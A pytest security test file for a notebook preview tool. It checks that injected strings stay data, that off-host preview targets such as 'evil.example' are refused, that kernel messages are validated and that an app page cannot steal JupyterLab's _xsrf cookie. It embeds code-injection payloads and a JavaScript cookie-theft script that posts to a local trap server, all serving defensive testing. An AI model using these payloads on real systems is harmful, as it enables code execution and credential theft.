"""The preview's attack list (issue 28): one test per attack class, so that the next round starts from it.
Generated code stays data; what the preview's page reports is validated in the kernel; bad preview arguments are one line;
an app page in a direct preview cannot borrow JupyterLab's credentials."""
import ast, json, socket, threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit
import pytest
from fhnb.preview import test_cell, preview
from harness import frame, open_notebook, run_all_cells, write_notebook

# ---------- 1. copy as test: whatever the app or the page returned stays data in the generated cell ----------

EVIL = ['x\nimport os; os.system("touch pwned")', 'x\rimport os', 'x\r\nimport os', 'x\u2028import os', 'x\x85import os', 'x\x0bimport os',
        '"""\nimport os\n"""', "'''\nimport os", 'a\\', '\\\nimport os', "')\nimport os\n('", '#', '\x00', '{}', '%s']
NAMES = {'test_eq', 'HxClient', 'hx', 'r', 'len', 'app'}   # every name a generated cell may use

def entries(s:str) -> list:
    "Log entries with `s` in each place `test_cell` embeds something: error, path, query, form keys and values, HX headers."
    hx = {'hx-request': 'true', 'hx-current-url': f'http://127.0.0.1:5001/{s}', 'hx-target': s, 'hx-trigger': s, 'hx-trigger-name': s}
    post = dict(method='POST', path='/add', query='', status=200, form={'title': s}, hx=hx)
    return [dict(post, status=500, error=s), dict(post, path='/' + s), dict(post, query=s), dict(post, form={s: s, 'ok': s}),
            dict(post, form=s), dict(method='GET', path='/', query=f'q={s}&{s}=1', status=200, hx={}),
            dict(method='DELETE', path='/x', query=f'{s}={s}', status=200, hx=hx), dict(post, method='PURGE', status=303)]

def shape(cell:str) -> list:
    "The statements of `cell` with their literals blanked: what code it runs, not what data it carries."
    tree = ast.parse(cell)
    for n in ast.walk(tree):
        assert not isinstance(n, ast.Name) or n.id in NAMES, f'{n.id!r} in {cell!r}'
        if isinstance(n, ast.Constant): n.value = None
    return [ast.dump(s) for s in tree.body]

@pytest.mark.parametrize('s', EVIL)
def test_copy_as_test_quotes_what_it_embeds(s):
    for e in entries(s):
        for response, location in [(None, None), (f'<p>{s}</p><b>{s}</b>', None), (None, '/' + s)]:
            cell = test_cell(e, response, location)
            plain = test_cell({**e, **{k: 'x' for k in ('error',) if k in e}}, response and '<p>x</p><b>x</b>', location and '/x')
            assert shape(cell) == shape(plain), cell   # the same statements as a harmless entry's: nothing became code
            assert sum(l.startswith('#') for l in cell.splitlines()) == sum(l.startswith('#') for l in plain.splitlines()), cell

def test_copy_as_test_refuses_what_is_not_a_request():
    "A malformed entry from the front end is a one-line comment cell, not an exception."
    for bad in [dict(method='GET\nimport os', path='/', status=200), dict(method='GET', path='/', status='200)\nimport os'), 'x', None,
                dict(method='GET', path='/', status=True)]:
        with pytest.raises(ValueError) as e: test_cell(bad)
        assert '\n' not in str(e.value)

# ---------- 8. preview's own arguments: one line naming the argument and what is allowed ----------

@pytest.mark.parametrize('args, says', [
    (('//evil.example/x',), "target '//evil.example/x' names another host"),
    (('http://evil.example/x',), "is not a path"),
    (('/\\evil.example',), "has '\\\\', not allowed in a URL"),
    (('/x\ny',), "has '\\n', not allowed in a URL"),
    (('/' + 'a' * 3_000_000,), 'is 3,000,001 characters long; the limit is 8,000'),
    (('/', 10**12), "height=1000000000000; pass 'auto' or a height in pixels from 1 to 10,000"),
    (('/', 0), "height=0; pass 'auto'"),
    (('/', '9' * 5000), "pass 'auto' or a height in pixels from 1 to 10,000"),
])
def test_preview_arguments_are_one_line_errors(tmp_path, monkeypatch, args, says):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ValueError) as e: preview(*args)
    msg = str(e.value)
    assert says in msg and '\n' not in msg and len(msg) < 400, msg

# ---------- 4. what the preview's page reports is validated in the kernel ----------

def send_to_widget(kernel, comm_id:str, data:dict) -> list:
    "Send `data` to the widget's comm as its front end would; the kernel's iopub messages in reply, until it is idle."
    msg = kernel.kc.session.msg('comm_msg', {'comm_id': comm_id, 'data': data})
    kernel.kc.shell_channel.send(msg)
    got = []
    while True:
        m = kernel.kc.get_iopub_msg(timeout=30)
        if m['parent_header'].get('msg_id') != msg['header']['msg_id']: continue
        if m['msg_type'] == 'status' and m['content']['execution_state'] == 'idle': return got
        got.append(m)

def four_digit_port() -> int:
    "A free port P from 1024 to 6553 whose P*10+1 is free too: a page's location '1/' would steer a fetch from P to it."
    for p in range(2000, 6553):
        try:
            with socket.socket() as a, socket.socket() as b: a.bind(('127.0.0.1', p)); b.bind(('127.0.0.1', p * 10 + 1))
            return p
        except OSError: continue

def test_page_reports_are_validated_in_the_kernel(kernel, tmp_path):
    port = four_digit_port()
    (tmp_path/'settings.ini').write_text(f'[fhnb]\nport = {port}\n')
    kernel.ok("from fasthtml.common import *\napp, rt = fast_app()\n@rt('/')\ndef get(): return P('home')\n"
              "from fhnb import *\nserve_nb(app)\np = preview('/')")
    comm_id = kernel.ok('print(p.comm.comm_id)').stdout.strip()
    trap = socket.socket(); trap.bind(('127.0.0.1', port * 10 + 1)); trap.listen(); trap.setblocking(False)   # where a steered fetch would land
    try:
        for k, v in [('location', '1/'), ('location', '//evil.example/x'), ('location', '/' + 'a' * 3_000_000), ('location', '/x\n\x1b[31mred'),
                     ('location', 5), ('path', 'http://127.0.0.1:22/'), ('height', 10**12), ('height', 'tall')]:
            replies = send_to_widget(kernel, comm_id, {'method': 'update', 'state': {k: v}, 'buffer_paths': []})
            shown = [m for m in replies if m['msg_type'] in ('error', 'stream', 'display_data')]
            assert all('Traceback' not in json.dumps(m['content']) for m in shown), shown
            assert [m['msg_type'] for m in shown] == ['stream'] and shown[0]['content']['text'].count('\n') == 1, shown   # one line
        for ask in [{'ask': 'test', 'entry': 'x'}, {'ask': 'test', 'entry': {'method': 'GET\nimport os', 'path': '/', 'status': 200}},
                    {'ask': 'test', 'entry': {'method': 'GET', 'path': '/', 'status': '200)\nimport os'}}, {'ask': 'test'}]:
            replies = send_to_widget(kernel, comm_id, {'method': 'custom', 'content': ask})
            assert not [m for m in replies if m['msg_type'] == 'error' or 'Traceback' in json.dumps(m['content'])], replies
        r = kernel.ok("import threading\nfor t in threading.enumerate():\n    if t.name == 'fhnb-snapshots': t.join()\n"
                      "print(repr(p.location), p.path, p.height, len(p.snapshot) < 5000)")
        assert r.stdout.split() == ["''", '/', 'auto', 'True'], r.stdout
        with pytest.raises(BlockingIOError): trap.accept()   # no fetch went to the other port
    finally: trap.close()

# ---------- 3. an app page in a direct preview cannot borrow JupyterLab's credentials ----------

ATTACK_APP = '''from fasthtml.common import *
app, rt = fast_app()
@rt('/')
def get(session):
    session['n'] = session.get('n', 0) + 1
    return Titled('Attack', P(f"visits {{session['n']}}", id='n'), Script("""
window.__attack = (async () => {{
  const xsrf = (document.cookie.match(/(?:^|; )_xsrf=([^;]*)/) || [])[1] || '';
  let sent = 'no answer';
  try {{ sent = (await fetch('{lab}/proxy/{trap}/steal', {{ method: 'POST', credentials: 'include', mode: 'no-cors',
                                                       body: new URLSearchParams({{ _xsrf: decodeURIComponent(xsrf) }}) }})).type; }}
  catch (e) {{ sent = 'refused'; }}
  return {{ cookie: document.cookie, sent }};
}})();"""))'''

@contextmanager
def trap_server():
    "A loopback HTTP server that records every request it gets: where a stolen POST through the proxy would land."
    got = []
    class Rec(BaseHTTPRequestHandler):
        def do_POST(self): got.append((self.path, self.headers.get('cookie'))); self.send_response(200); self.end_headers()
        do_GET = do_POST
        def log_message(self, *a): pass
    srv = ThreadingHTTPServer(('127.0.0.1', 0), Rec)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try: yield srv.server_address[1], got
    finally: srv.shutdown(); srv.server_close()

@pytest.mark.browser
@pytest.mark.parametrize('host', ['localhost', '127.0.0.1'])
def test_app_page_cannot_borrow_jupyterlab_credentials(lab, page, host):
    "JupyterLab at `host`: the direct preview's page is on the other loopback name; its script sees no `_xsrf`, its POST through jupyter-server-proxy carries no login; its session lasts."
    with trap_server() as (trap, got):
        write_notebook(lab.root/'attack.ipynb', ATTACK_APP.format(lab=f'http://{host}:{lab.port}', trap=trap), "from fhnb import *\nserve_nb(app)", "preview('/')")
        open_notebook(page, lab, 'attack.ipynb', host=host)
        assert any(c['name'] == '_xsrf' for c in page.context.cookies())   # JupyterLab's page has it: there is something to steal
        run_all_cells(page)
        f = frame(page, 0)
        f.wait_for_selector('#n:has-text("visits 1")')
        assert urlsplit(f.url).hostname == {'localhost': '127.0.0.1', '127.0.0.1': 'localhost'}[host]
        stolen = f.evaluate('window.__attack')
        assert '_xsrf' not in stolen['cookie'] and 'username-' not in stolen['cookie'], stolen
        assert got == [], got   # the POST never reached the port behind the proxy: it carried no Jupyter login
        page.locator('.fhnb-preview button[title="Reload"]').click()
        frame(page, 0).wait_for_selector('#n:has-text("visits 2")', timeout=10_000)   # the app's own session cookie was kept
